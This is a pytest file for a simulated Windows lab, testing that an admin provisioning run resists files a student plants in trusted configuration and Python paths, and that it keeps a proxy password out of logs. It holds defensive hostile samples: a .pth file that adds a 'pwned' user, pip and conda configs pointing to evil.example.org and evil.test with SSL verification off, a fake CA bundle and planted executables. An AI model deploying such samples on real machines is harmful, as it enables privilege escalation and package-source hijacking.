"""Lab security on simulated workstations: a student (a plain local user) plants files where the fleet's
admin run reads configuration or runs code, before the first run; the run neither follows nor runs them,
moves them aside, and afterwards playbooks/audit.yml finds no trusted path a non-admin can write.

The simulated host applies Windows' default ACLs (tests/simwin/host.py): a student may create folders at
C:\\ and files in C:\\ProgramData subfolders, and owns what they create.
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import pytest
from simwin.testing import Lab, fleet_run, make_lab

pytestmark = pytest.mark.slow

HOSTILE_RECORD = json.dumps(
    {
        "version": 1,
        "files": ["C:\\Python27\\ArcGIS10.4\\python.exe"],
        "dirs": ["C:\\Users\\svc_fleet"],
        "store": ["CDD4EEAE6000AC7F40C3802C171E30148030C072"],
    }
)
PLANTED = {
    "C:\\ProgramData\\arcgis-conda\\doi_cert-state.json": HOSTILE_RECORD,
    "C:\\ProgramData\\conda\\condarc.d\\zz.yml": "channels: [https://evil.test/c]\nssl_verify: false\n",
    "C:\\ProgramData\\pip\\pip.ini": "[global]\nindex-url = https://evil.example.org/simple\n",
    "C:\\ProgramData\\arcgis-conda\\certs\\ca-bundle.pem": "-----BEGIN CERTIFICATE-----\nevil\n",
    "C:\\Python27\\ArcGIS10.4\\Lib\\site-packages\\evil.pth": "import os; os.system('net user pwned /add')\n",
}


def run(lab: Lab, playbook: str, *extra: str) -> tuple[int, str]:
    rc, out = fleet_run(lab, playbook, None, *extra)[:2]
    return rc, out


def report(lab: Lab) -> dict:
    rows = json.loads((lab.dir / "reports" / "latest" / "lab_sim.json").read_text())["hosts"]
    return {row["host"]: row for row in rows}


@pytest.fixture(scope="module")
def planted(tmp_path_factory) -> Lab:
    lab = make_lab(tmp_path_factory.mktemp("planted"), "reference")
    with lab.edit() as host:
        student = host.as_user("student1")
        for path, text in PLANTED.items():
            folder = path.rsplit("\\", 1)[0]
            parts = folder.split("\\")
            for depth in range(2, len(parts) + 1):
                sub = "\\".join(parts[:depth])
                if not host.exists(sub):
                    student.mkdir(sub)
            student.write_file(path, text)
        # A junction where the run trusts files: securing must never follow it into student2's profile.
        student.junction("C:\\ProgramData\\conda\\condarc.d\\link", "C:\\Users\\student2")
    return lab


def test_the_audit_reports_what_a_student_planted(planted: Lab) -> None:
    rc, out = run(planted, "playbooks/audit.yml")
    assert rc != 0, out
    findings = {f["path"].lower(): f for f in report(planted)[planted.hosts[0]]["audit"]}
    for path in PLANTED:
        assert path.lower() in findings, f"the audit missed {path}: {sorted(findings)}"
    # Reparse points and programs a user made are findings of their own, with what to do.
    link = findings["c:\\programdata\\conda\\condarc.d\\link"]
    assert link["why"].startswith("a junction or symbolic link inside a folder the admin run trusts")
    pth = findings["c:\\python27\\arcgis10.4\\lib\\site-packages\\evil.pth"]
    assert pth["why"].startswith("a program or start-up file a non-admin made")
    # ArcGIS Desktop's own Python, which users can change, was not run by the audit, and is reported.
    python = findings["c:\\python27\\arcgis10.4\\python.exe"]
    assert "was not run" in python["why"] and "S-1-5-11" in python["why"]
    assert [e for e in planted.events() if e["kind"] == "program" and "ArcGIS10.4" in e["exe"]] == []


def test_the_run_never_follows_a_planted_file_and_leaves_nothing_writable(planted: Lab) -> None:
    rc, out = run(planted, "site.yml")
    assert rc == 0, out
    host = planted.host()
    # Nothing the hostile record names was touched; the evil .pth never ran as admin (it was moved aside
    # before any Python started after the plan) and no planted content is left where it was.
    assert host.exists("C:\\Python27\\ArcGIS10.4\\python.exe")
    assert host.exists("C:\\Users\\svc_fleet")
    for path, text in PLANTED.items():
        # Moved aside itself, or inside the folder the student made, moved aside whole (never adopted).
        parts = path.split("\\")
        asides = [
            "\\".join([*parts[:depth], parts[depth] + ".untrusted", *parts[depth + 1 :]])
            for depth in range(2, len(parts))
        ]
        moved = [a for a in asides if host.exists(a)]
        assert moved, f"{path} was not moved aside"
        assert host.node_bytes(host.node(moved[0])) == text.encode()
        assert host.node(moved[0])["owner"] == host.users()["student1"]["sid"]  # theirs, not re-owned
        if host.exists(path):
            assert host.node_bytes(host.node(path)) != text.encode(), f"{path} still holds what was planted"
    assert not host.exists("C:\\Python27\\ArcGIS10.4\\Lib\\site-packages\\evil.pth")
    assert "pwned" not in json.dumps(host.state.get("users"))
    pip = host.node_bytes(host.node("C:\\ProgramData\\pip\\pip.ini")).decode()
    assert (
        "evil.example.org" not in pip and "cert = C:\\ProgramData\\arcgis-conda\\certs\\ca-bundle.pem" in pip
    )

    rc, out = run(planted, "playbooks/audit.yml")
    assert rc == 0, out
    assert report(planted)[planted.hosts[0]]["audit"] == []
    # A student can no longer add anything there.
    with planted.edit() as h, pytest.raises(Exception, match=r"(?i)denied"):
        h.as_user("student1").write_file("C:\\ProgramData\\conda\\condarc.d\\zz2.yml", "ssl_verify: false\n")

    rc, out = run(planted, "site.yml")
    assert rc == 0, out
    assert "changed=0" in out and report(planted)[planted.hosts[0]]["planned"] == []


def test_a_miniconda_folder_a_student_made_first_stops_the_host_before_any_change(tmp_path: Path) -> None:
    lab = make_lab(tmp_path, "desktop1041")
    with lab.edit() as host:
        host.as_user("student1").mkdir("C:\\Miniconda2")
        host.as_user("student1").write_file("C:\\Miniconda2\\python.exe", "not python")
    rc, out = run(lab, "site.yml")
    assert rc != 0
    assert (
        "C:\\\\Miniconda2 already exists and is owned by" in out or "C:\\Miniconda2 already exists" in out
    ), out
    effects = [e for c in lab.calls() if c.get("kind") == "module" for e in c.get("effects") or []]
    # Only what observe does before ArcGIS's Python first runs: its user-writable folder secured.
    assert effects == [{"op": "secure", "path": "C:\\Python27"}]


def test_secrets_stay_out_of_a_verbose_run(tmp_path: Path) -> None:
    lab = make_lab(tmp_path, "pro33")
    secret = "s3cr3t-Proxy-Pa55"
    extra = lab.dir / "proxy.json"
    extra.write_text(json.dumps({"miniconda_proxy": f"http://fleet:{secret}@proxy.example.org:3128"}))
    # Issue 22 item 5: refused before any change (every account reads the system condarc), secret unsaid.
    rc, out = run(lab, "site.yml", "-e", f"@{extra}")
    assert rc != 0 and "miniconda_proxy_password_readable_by_users" in out and secret not in out, out[-3000:]
    host = lab.host()
    assert not host.exists("C:\\Miniconda3") and not host.exists("C:\\ProgramData\\conda\\.condarc")
    extra.write_text(
        json.dumps(
            {
                "miniconda_proxy": f"http://fleet:{secret}@proxy.example.org:3128",
                "miniconda_proxy_password_readable_by_users": True,
            }
        )
    )
    rc, out = run(lab, "site.yml", "-e", f"@{extra}", "-vvv")
    assert rc == 0, out[-3000:]
    assert secret not in out
    for blob in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", out):  # file bytes travel base64-encoded
        try:
            decoded = base64.b64decode(blob + "=" * (-len(blob) % 4)).decode("utf-8", "replace")
        except ValueError:
            continue
        assert secret not in decoded, "a file's bytes with the proxy password were printed"


@pytest.mark.escalations_expected  # the planted programs are the point; the test asserts none of them ran
def test_a_miniconda_a_student_planted_is_refused_never_run(tmp_path: Path) -> None:
    """Issue 22 item 3: C:\\ grants every user "add folder", so anyone can make C:\\Miniconda2\\Scripts\\
    conda.exe, or a C:\\Miniconda3 with the role's marker and an uninstaller. Before, an existing conda.exe
    was trusted because it existed (secured, then run as admin), and on absent the uninstaller ran when the
    marker was there. Now each is refused with its path and the fix, and nothing of theirs runs."""
    lab = make_lab(tmp_path, "desktop1041")
    with lab.edit() as host:
        student = host.as_user("student1")
        student.mkdir("C:\\Miniconda2")
        student.mkdir("C:\\Miniconda2\\Scripts")
        student.write_program("C:\\Miniconda2\\Scripts\\conda.exe", "conda")
    rc, out = run(lab, "site.yml")
    assert rc != 0, out[-3000:]
    assert "C:\\Miniconda2 already exists and is owned by" in out and "Fix: inspect it" in out, out[-3000:]
    starts = [e for e in lab.events() if e["kind"] == "program"]
    assert not [e for e in starts if "Miniconda2" in str(e.get("exe"))], starts

    lab2 = make_lab(tmp_path / "absent", "desktop1041")
    with lab2.edit() as host:
        student = host.as_user("student1")
        student.mkdir("C:\\Miniconda3")
        student.write_file("C:\\Miniconda3\\.arcgis-conda-fleet", "{}")
        student.write_program("C:\\Miniconda3\\Uninstall-Miniconda3.exe", "nsis_uninstaller")
    rc, out = run(lab2, "playbooks/uninstall.yml", "-e", "fleet_confirm=yes")
    assert rc != 0 and "C:\\Miniconda3 already exists and is owned by" in out, out[-3000:]
    assert not [e for e in lab2.events() if "Uninstall-Miniconda3" in str(e.get("exe"))]
    assert lab2.host().exists("C:\\Miniconda3\\Uninstall-Miniconda3.exe")


def test_a_file_planted_between_observe_and_apply_is_never_adopted(tmp_path: Path) -> None:
    """student1 makes C:\\ProgramData\\conda\\condarc.d\\zz.yml after observe read the host and before the
    first files call: the folder the run was to create secure exists and is theirs, so the host stops
    (never re-owned or trusted); the next run moves it aside whole and makes its own."""
    lab = make_lab(tmp_path, "pro35")
    zz = "C:\\ProgramData\\conda\\condarc.d\\zz.yml"
    with lab.edit() as host:
        host.state.setdefault("faults", {})["plant"] = [
            {
                "module": "win_powershell",
                "argv_contains": "host script: apply_files",
                "user": "student1",
                "mkdirs": ["C:\\ProgramData\\conda", "C:\\ProgramData\\conda\\condarc.d"],
                "path": zz,
                "content": "channels: [https://evil.test/c]\nssl_verify: false\n",
            }
        ]
    rc, out = run(lab, "site.yml")
    assert rc != 0 and "not an administrator: not secured" in " ".join(out.split()), out
    sid = lab.host().users()["student1"]["sid"]
    assert lab.host().node(zz)["owner"] == sid  # not re-owned
    # No conda ran while it was there (the rule would have recorded its escalation; conftest fails on one).
    assert not [e for e in lab.events() if e["kind"] == "program" and e["exe"].lower().endswith("conda.exe")]
    rc, out = run(lab, "site.yml")
    assert rc == 0, out
    host = lab.host()
    assert host.node("C:\\ProgramData\\conda.untrusted\\condarc.d\\zz.yml")["owner"] == sid
    assert not host.exists(zz)
    assert host.node("C:\\ProgramData\\conda")["owner"] == "S-1-5-32-544"
